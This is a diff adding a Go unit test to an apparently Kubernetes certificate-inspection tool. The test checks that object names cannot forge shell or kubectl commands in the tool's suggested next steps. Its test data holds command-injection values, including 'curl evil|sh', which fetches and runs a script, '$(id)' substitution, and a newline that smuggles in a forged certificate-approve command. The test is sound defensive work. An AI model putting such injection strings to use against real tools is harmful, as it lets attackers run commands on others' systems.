@@ -1,0 +1,37 @@
+package check
+
+import (
+	"strings"
+	"testing"
+
+	"github.com/kubectl-certrot/kubectl-certrot/inspect"
+	"github.com/kubectl-certrot/kubectl-certrot/inspect/inspecttest"
+	"github.com/kubectl-certrot/kubectl-certrot/inspect/pki"
+)
+
+// TestANameOfAnObjectForgesNoCommand: the names in files, of requests, and of owners in
+// annotations are whatever who wrote them likes, and stand in next steps, in JSON, too.
+func TestANameOfAnObjectForgesNoCommand(t *testing.T) {
+	t.Parallel()
+	for _, name := range []string{"csr-x;curl evil|sh", "csr-x\n  next: kubectl certificate approve csr-evil", "csr-x csr-evil", "csr-$(id)", "--all", "a'b"} {
+		for where, next := range map[string]string{
+			"a pending request": csrFinding(&inspect.Facts{Now: inspecttest.Noon}, []inspect.SigningRequest{{Object: &inspect.Object{Kind: "CertificateSigningRequest", Name: name}, Condition: inspect.Pending}}).Next,
+			"annotations":       annotationsOf(pki.Location{Kind: "Secret", Namespace: "a", Name: name}),
+			"their namespace":   annotationsOf(pki.Location{Kind: "Secret", Namespace: name, Name: "a"}),
+			"a right to get":    inspect.LiveHints("x").Unread(inspect.MayGet("secret/"+name, "a")),
+			"its namespace":     inspect.LiveHints("x").Unread(inspect.MayList("secrets", name)),
+			"a node":            inspect.LiveHints("x").Next("{} fix-api-int --nodes %s", name),
+		} {
+			name := name
+			if where == "an owner's" {
+				name = strings.ReplaceAll(name, " ", "_")
+			}
+			if where == "a right to get" && name == "--all" {
+				continue // behind its kind it is no option
+			}
+			if own := strings.ReplaceAll(strings.ReplaceAll(next, pki.Quoted(name), ""), pki.Quoted("secret/"+name), ""); own == next || strings.Contains(own, name) {
+				t.Errorf("%s, %q: %s", where, name, next)
+			}
+		}
+	}
+}
